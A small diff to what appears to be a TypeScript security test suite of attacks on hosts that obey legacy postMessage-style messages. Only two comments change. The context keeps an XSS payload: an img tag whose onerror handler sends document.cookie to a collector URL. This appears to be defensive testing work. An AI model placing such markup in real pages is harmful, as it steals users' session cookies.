@@ -1,4 +1,4 @@
-// The older messages, `{type, payload}`, which many hosts obey as they come.
+// The older messages, `{type, payload}`, which many hosts obey without a check.
 import type { Attack } from '../attack.ts';
 import { leak, ofClass } from './define.ts';
 
@@ -16,7 +16,7 @@ const called: NonNullable<Attack['breach']> = ({ calls }) => calls.length > 0;
 const gotSecret: NonNullable<Attack['breach']> = ({ network }) =>
   network.some(({ detail }) => detail.includes('HOST-SECRET'));
 
-/** Markup that tells the collector a cookie of the page it is drawn in. */
+/** Markup that sends a cookie of the page it is drawn in to the collector. */
 const MARKUP = `'<img src="nowhere:" onerror="new Image().src = \\'' + ${leak('markup')} + '?\\' + encodeURIComponent(document.cookie)">'`;
 
 export const ATTACKS: readonly Attack[] = [
